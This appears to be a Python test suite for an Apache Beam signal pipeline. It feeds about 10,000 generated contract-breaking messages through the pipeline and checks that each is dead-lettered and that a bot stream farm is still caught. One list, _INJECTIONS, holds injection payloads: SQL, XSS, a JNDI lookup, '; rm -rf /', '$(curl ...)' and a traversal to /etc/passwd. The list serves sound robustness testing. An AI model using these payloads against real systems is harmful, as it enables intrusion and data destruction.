"""Hostile input through the whole pipeline: every line is a signal or a dead letter with a reason, none decides.

The corpus is generated: 16 categories of contract-breaking messages, about
10,000 in all, each built from a valid signal and broken one way. The batch run
checks every line individually (reading the outputs back from files) and that
the pipeline's own counters balance: messages in = signals + dead letters. The
streaming run interleaves a slice of the corpus with a stream farm and checks
that the farm is still caught, i.e. hostile input does not stop the defences.
"""

from __future__ import annotations

import collections
import json
import random

import apache_beam as beam
import orjson
from apache_beam.metrics.metric import MetricsFilter
from apache_beam.testing.test_pipeline import TestPipeline
from apache_beam.testing.test_stream import TestStream
from apache_beam.testing.util import assert_that, equal_to
from apache_beam.transforms.window import TimestampedValue

from pipelines.options import DEFAULT_RULES
from pipelines.pipeline import PipelineConfig, build_pipeline
from tests.kit import HOUR_MS, T0_MS, payload, payload_dict, streaming_options
from transforms.parse import MAX_DEAD_LETTER_BYTES, MAX_PAYLOAD_BYTES, MAX_USER_AGENT_CHARS, REQUIRED_FOR
from transforms.rulepack import load_rule_pack

PACK = load_rule_pack(DEFAULT_RULES)
PER_CATEGORY = 640

_INJECTIONS = [
    "' OR 1=1--",
    "a'; DROP TABLE audit;--",
    "<script>alert(1)</script>",
    "${jndi:ldap://198.51.100.1/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "; rm -rf /",
    "%s%s%n",
    "user\r\nX-Injected: 1",
    "$(curl 198.51.100.1)",
    "`id`",
    '{"$gt": ""}',
]
_CONTROLS = ["\x00", "\n", "\t", "\x7f", "\u202e", "\u200b", "\x1b[31m", "\ufeff", "\x85"]
_BAD_IPS = ["999.1.1.1", "1.2.3", "1.2.3.4.5", "::g", "localhost", "10.0.0.1/24", "", " 1.2.3.4", "0x7f.1", 12345, [1]]
_WRONG = [1, -1, 2.5, True, None, [], {}, ["x"], {"a": 1}, "12", "true"]


def _base(rng: random.Random, i: int) -> dict:
    kind = rng.choice(["stream", "login", "signup", "playlist_add", "payment"])
    return payload_dict(kind, T0_MS + rng.randrange(HOUR_MS), event_id=f"h{i}", user_id=f"victim{i % 97}")


def _nest(depth: int, rng: random.Random) -> str:
    opener, closer = ("[", "]") if rng.random() < 0.5 else ('{"a":', "}")
    return opener * depth + "1" + closer * depth


def _make(category: str, rng: random.Random, i: int) -> bytes:
    d = _base(rng, i)
    if category == "invalid_utf8":
        raw = orjson.dumps(d)
        cut = rng.randrange(len(raw))
        return raw[:cut] + rng.choice([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"]) + raw[cut:]
    if category == "invalid_json":
        raw = orjson.dumps(d).decode()
        return rng.choice(
            [raw[: rng.randrange(1, len(raw) - 1)], raw.replace('"', "'"), raw[:-1] + ",}", "{" + raw]
        ).encode()
    if category == "not_an_object":
        return orjson.dumps(rng.choice([[d], 1, "signal", None, True, [], 1.5]))
    if category == "wrong_types":
        field = rng.choice([k for k in d if k != "event_type"])
        return orjson.dumps(
            {**d, field: rng.choice([w for w in _WRONG if w is not None and type(w) is not type(d[field])])}
        )
    if category == "missing_fields":
        drop = rng.choice(["event_id", "event_type", "event_time", "user_id", *REQUIRED_FOR[d["event_type"]]])
        return orjson.dumps({k: v for k, v in d.items() if k != drop})
    if category == "oversize_payload":
        return orjson.dumps({**d, "padding": "x" * (MAX_PAYLOAD_BYTES + rng.randrange(1, 200_000))})
    if category == "huge_strings":
        field = rng.choice(["event_id", "user_id", "device_id", "track_id", "user_agent", "trace_id"])
        return orjson.dumps({**d, field: "a" * rng.randrange(MAX_USER_AGENT_CHARS + 1, MAX_PAYLOAD_BYTES - 400)})
    if category == "deep_nesting":
        return f'{{"event_id": "h{i}", "x": {_nest(rng.randrange(1100, 5000), rng)}}}'.encode()
    if category == "nan_infinity":
        field = "ms_played" if d["event_type"] == "stream" else "amount_cents" if d["event_type"] == "payment" else "x"
        bad = rng.choice(["NaN", "Infinity", "-Infinity", "1e400", "-nan"])
        return json.dumps({**d, field: 0}).replace(f'"{field}": 0', f'"{field}": {bad}').encode()
    if category == "time_far_past":
        year = rng.choice(["1970", "1999", "0001", "1000", "1900"])
        return orjson.dumps({**d, "event_time": f"{year}-06-01T00:00:00Z"})
    if category == "time_far_future":
        stamp = rng.choice(
            ["2100-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-02-30T00:00:00Z", "2026-13-01T00:00:00Z"]
        )
        return orjson.dumps({**d, "event_time": stamp})
    if category == "bad_ip":
        return orjson.dumps({**d, "ip": rng.choice(_BAD_IPS)})
    if category == "control_chars_in_ids":
        field = rng.choice(["event_id", "user_id", "device_id", "trace_id"])
        return orjson.dumps({**d, field: f"u{i}{rng.choice(_CONTROLS)}x"})
    if category == "injection_in_ids":
        field = rng.choice(["event_id", "user_id", "device_id", "trace_id"])
        return orjson.dumps({**d, field: rng.choice(_INJECTIONS)})
    if category == "out_of_range_values":
        bad = rng.choice(
            [
                {"event_type": "admin"},
                {"event_type": "Stream"},
                {"country": "XX"},
                {"currency": "usd"},
                {"event_type": "payment", "amount_cents": -5, "currency": "USD", "success": True},
                {"event_type": "stream", "ms_played": 10**30, "track_id": "t1"},
                {"event_type": "stream", "ms_played": -1, "track_id": "t1"},
                {"user_agent": "Mozilla\x00"},
            ]
        )
        return json.dumps({**d, **bad}).encode()  # json: orjson refuses integers beyond 64 bits
    raise ValueError(category)


BAD_CATEGORIES = [
    "invalid_utf8",
    "invalid_json",
    "not_an_object",
    "wrong_types",
    "missing_fields",
    "oversize_payload",
    "huge_strings",
    "deep_nesting",
    "nan_infinity",
    "time_far_past",
    "time_far_future",
    "bad_ip",
    "control_chars_in_ids",
    "injection_in_ids",
    "out_of_range_values",
]


def hostile_corpus(per_category: int = PER_CATEGORY, seed: int = 3) -> list[tuple[str, bytes]]:
    """(category, payload) for every bad category, plus valid signals carrying unknown extra fields.

    Extra fields alone do not break the contract: producers add fields before
    consumers know them, and rejecting those signals would blind the pipeline
    on every producer release. They are accepted and counted as unknown fields.
    """
    rng = random.Random(seed)
    corpus = [(c, _make(c, rng, n)) for c in BAD_CATEGORIES for n in range(per_category)]
    for n in range(per_category):
        d = _base(rng, 100_000 + n)
        corpus.append(
            ("extra_fields", orjson.dumps({**d, f"new_field_{n % 7}": rng.choice([1, "x", [1, 2], {"k": None}])}))
        )
    return corpus


class _Hex(beam.DoFn):
    def process(self, dead):
        yield f"{dead.raw_payload.hex()}\t{dead.reason}\t{bool(dead.detail)}"


def _read_lines(pattern: str) -> list[str]:
    import glob

    lines = []
    for path in sorted(glob.glob(pattern)):
        with open(path) as f:
            lines.extend(line.rstrip("\n") for line in f if line.strip())
    return lines


def test_every_hostile_message_is_dead_lettered_with_a_reason_and_none_decides(tmp_path, reliability):
    corpus = hostile_corpus()
    assert len(corpus) >= 10_000
    p = TestPipeline(runner="FnApiRunner")
    out = build_pipeline(p | beam.Create([raw for _, raw in corpus]), PACK)
    _ = out.dead_letters | "DeadHex" >> beam.ParDo(_Hex()) | "WriteDead" >> beam.io.WriteToText(str(tmp_path / "dead"))
    _ = out.signals | "Ids" >> beam.Map(lambda s: s.event_id) | "WriteIds" >> beam.io.WriteToText(str(tmp_path / "ok"))
    _ = (
        out.decisions
        | "DecIds" >> beam.Map(lambda d: d.decision_id)
        | "WriteDec" >> beam.io.WriteToText(str(tmp_path / "dec"))
    )
    result = p.run()
    result.wait_until_finish()

    dead = collections.Counter()
    for line in _read_lines(str(tmp_path / "dead*")):
        raw_hex, reason, has_detail = line.split("\t")
        if reason and has_detail == "True":
            dead[raw_hex] += 1
    signal_ids = collections.Counter(_read_lines(str(tmp_path / "ok*")))
    decisions = _read_lines(str(tmp_path / "dec*"))

    handled = collections.Counter()
    tried = collections.Counter()
    for category, raw in corpus:
        tried[category] += 1
        if category == "extra_fields":
            if signal_ids[orjson.loads(raw)["event_id"]] > 0:
                handled[category] += 1
        elif dead[(kept := raw[:MAX_DEAD_LETTER_BYTES].hex())] > 0:  # an oversized payload's first 64 KiB
            dead[kept] -= 1  # identical payloads must each be dead-lettered
            handled[category] += 1
    for category in tried:
        detail = "accepted, unknown fields counted" if category == "extra_fields" else "dead-lettered with reason"
        reliability.record("hostile input (10k corpus)", category, tried[category], handled[category], detail)

    def counter(namespace, name):
        found = result.metrics().query(MetricsFilter().with_namespace(namespace).with_name(name))["counters"]
        return sum(c.committed for c in found)

    read = sum(counter("signals", f"read_{t}") for t in ("stream", "login", "signup", "playlist_add", "payment"))
    dead_lettered = counter("signals", "dead_lettered")
    reliability.record(
        "hostile input (10k corpus)",
        "count in = signals + dead letters",
        len(corpus),
        read + dead_lettered,
        f"{read:,} signals + {dead_lettered:,} dead letters",
    )
    assert decisions == [], "hostile input must never decide"
    assert handled == tried
    assert read + dead_lettered == len(corpus)
    assert counter("signals", "unknown_fields") == PER_CATEGORY


def test_a_stream_farm_is_still_caught_while_hostile_input_pours_in(tmp_path, reliability):
    """Streaming: hostile messages before, between and after the farm's plays; the farm's window still decides."""
    hostile = [raw for category, raw in hostile_corpus(per_category=60, seed=5) if category != "extra_fields"]
    farm = [
        payload("stream", T0_MS + i * 75_000, user_id="bot1", device_id="dbot", ms_played=32_000, track_id=f"t{i % 3}")
        for i in range(45)
    ]
    stream = TestStream().advance_watermark_to(T0_MS / 1000)
    chunk = len(hostile) // 4
    for n in range(4):
        stream = stream.add_elements([TimestampedValue(x, T0_MS / 1000) for x in hostile[n * chunk : (n + 1) * chunk]])
        stream = stream.add_elements([TimestampedValue(x, T0_MS / 1000) for x in farm[n * 12 : (n + 1) * 12]])
    stream = stream.advance_watermark_to((T0_MS + HOUR_MS + 1000) / 1000).advance_watermark_to_infinity()
    hostile = [raw[:MAX_DEAD_LETTER_BYTES] for raw in hostile[: 4 * chunk]]  # what a dead letter keeps
    seen_path = tmp_path / "dead_lettered"

    def all_dead_lettered(raws):
        # The local runner's streaming counters undercount across bundles, so count the output itself.
        seen_path.write_text(str(sum((collections.Counter(raws) & collections.Counter(hostile)).values())))
        equal_to(hostile)(raws)

    config = PipelineConfig(streaming=True, allowed_lateness_sec=600)
    with TestPipeline(options=streaming_options()) as p:
        out = build_pipeline(p | stream, PACK, config=config)
        assert_that(
            out.decisions | "D" >> beam.Map(lambda d: (d.rule_id, d.entity_id, d.mode)),
            equal_to([("stream_farm_exclude", "bot1", "enforce")]),
            label="FarmCaught",
        )
        assert_that(out.dead_letters | "Raw" >> beam.Map(lambda d: d.raw_payload), all_dead_lettered, label="AllDead")
    dead_lettered = int(seen_path.read_text())
    reliability.record(
        "hostile input (streaming)",
        "dead-lettered while a farm is caught",
        len(hostile),
        dead_lettered,
        "the farm's window still decided",
    )
    assert dead_lettered == len(hostile)
